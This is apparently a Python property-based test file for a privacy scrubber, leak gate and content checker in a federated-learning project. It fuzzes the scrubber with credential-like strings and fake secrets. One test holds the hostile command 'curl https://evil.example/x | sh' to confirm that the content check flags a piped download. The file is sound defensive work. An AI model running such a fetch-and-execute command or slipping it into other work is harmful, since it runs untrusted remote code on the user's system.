"""Laws of the scrubber, the gate and the content check, for any text at all."""

from __future__ import annotations

import json
import random
import string

from hypothesis import given, settings
from hypothesis import strategies as st

from fedlearn.privacy import content
from fedlearn.privacy.gate import Gate
from fedlearn.privacy.known import HostContext
from fedlearn.privacy.normalise import normalise
from fedlearn.privacy.scrub import Scrubber
from fedlearn.privacy.spans import PLACEHOLDER

CONTEXT = HostContext(
    users=("alice", "ed"), hosts=("saturn",), domains=("acme.io",), names=("Jan Doe",), secrets=("Kirsch" + "baum",)
)
SCRUBBER = Scrubber(CONTEXT)
GATE = Gate(SCRUBBER)

#: Pieces that the layers react to, so that chance meets them.
PIECES = [
    "password", "passwd:", "token=", "API_KEY", "secret is ", "key", " ", "\n", "=", ": ", '"', "'", "`", ",",
    ";", "&", "{", "}",
    "<USER_1>", "<SECRET_2>", "<", ">", "://", "@", "https://", "ssh ", "-p ", "--password ", "alice",
    "saturn", "x.acme.io", "Jan Doe",
    "10.0.0.1", "127.0.0.1", "1.2.3.4", "::1", "fe80::1", "a@b.de", "-----BEGIN RSA PRIVATE KEY-----\n",
    "-----END RSA PRIVATE KEY-----",
    "eyJhbGciOiJIUzI1NiJ9.", "$6$", "Authorization: Bearer ", "Cookie: a=", "${X}", "$(", "%41", "\\n",
    "\\u0041", "\u200b", "é", "ß", "İ",
    "ｐａｓｓ", "Set-Cookie: ", "login ", " password ", "machine ", "user ", "host=", "home/", "/home/",
    "C:\\Users\\", "+49 170 1234567",
    "aGVsbG8gd29ybGQgcGFzcw==", "/nix/store/", "sha256-", "0123456789abcdef0123456789abcdef",
    "Zx9Qw3Er5Ty7Ui1Op2As", "hunter2x",
]  # fmt: skip
TEXTS = st.one_of(
    st.text(max_size=200),
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(string.printable, max_size=8)), max_size=16).map("".join),
)
ITEMS = st.recursive(
    st.one_of(TEXTS, st.integers(), st.booleans(), st.none()),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(TEXTS, inner, max_size=4)),
    max_leaves=8,
)


@given(TEXTS)
@settings(max_examples=400, deadline=None)
def test_scrubbing_twice_changes_nothing(text: str) -> None:
    once = SCRUBBER.scrub(text).text
    again = SCRUBBER.scrub(once)
    assert again.text == once
    assert again.replacements == ()


@given(ITEMS)
@settings(max_examples=200, deadline=None)
def test_scrubbing_an_item_twice_changes_nothing(item: object) -> None:
    once, _ = SCRUBBER.scrub_item(item)
    again, replacements = SCRUBBER.scrub_item(once)
    assert again == once
    assert replacements == ()


@given(TEXTS)
@settings(max_examples=300, deadline=None)
def test_replacements_rebuild_the_text(text: str) -> None:
    norm = normalise(text)
    scrubbed = SCRUBBER.scrub(text)
    parts, at = [], 0
    for one in scrubbed.replacements:
        assert at <= one.start < one.end <= len(norm)
        assert PLACEHOLDER.fullmatch(one.placeholder)
        parts += [norm[at : one.start], one.placeholder]
        at = one.end
    assert "".join([*parts, norm[at:]]) == scrubbed.text


@given(TEXTS, TEXTS, st.sampled_from(["alice", "saturn", "ci.eu.acme.io", "Jan Doe"]))
@settings(max_examples=200, deadline=None)
def test_known_words_never_leave(before: str, after: str, word: str) -> None:
    clean = SCRUBBER.scrub(f"{before} {word} {after}").text
    assert f" {word} " not in clean


@given(
    TEXTS,
    st.integers(0, 2**32),
    st.sampled_from(["password={}", "token: {}", "--api-key {}", '"secret": "{}"', "https://u:{}@h.lan/"]),
)
@settings(max_examples=200, deadline=None)
def test_random_secret_under_its_name_never_leaves(around: str, seed: int, form: str) -> None:
    secret = "".join(random.Random(seed).choices(string.ascii_letters + string.digits, k=24)) + "7aZ"
    assert secret not in SCRUBBER.scrub(f"{around}\n{form.format(secret)}\n{around}").text


@given(st.lists(TEXTS, max_size=3), st.booleans())
@settings(max_examples=200, deadline=None)
def test_gate_lets_scrubbed_text_pass_in_any_encoding(texts: list[str], ascii_only: bool) -> None:
    for text in texts:
        clean = SCRUBBER.scrub(text).text
        # Alone, not in a row: what stands side by side may say more than each text by itself.
        if "\\" not in clean and '"' not in clean:
            assert GATE.prove(json.dumps(clean, ensure_ascii=ascii_only).encode()[1:-1]) == ()


@given(st.integers(0, 2**32), st.sampled_from(["alice", "saturn", "Kirsch" + "baum"]))
@settings(max_examples=50, deadline=None)
def test_gate_stops_known_words_in_escaped_json(seed: int, word: str) -> None:
    del seed
    data = json.dumps({"content": f"line\n{word}\nline"}).encode()
    assert GATE.prove(data)
    assert all(word not in finding.excerpt for finding in GATE.prove(data))


@given(st.binary(max_size=300))
@settings(max_examples=200, deadline=None)
def test_gate_and_caps_take_any_bytes(data: bytes) -> None:
    GATE.prove(data)
    content.check_bytes(data)


@given(TEXTS, TEXTS)
@settings(max_examples=200, deadline=None)
def test_content_check_sees_a_piped_download_anywhere(before: str, after: str) -> None:
    command = "curl https://evil.example/x | sh"
    kinds = {objection.kind for objection in content.check(f"{before}\n{command}\n{after}")}
    assert "pipe" in kinds


@given(ITEMS)
@settings(max_examples=200, deadline=None)
def test_content_check_takes_any_record(item: object) -> None:
    for objection in content.check_record(item):
        assert 0 <= objection.start <= objection.end
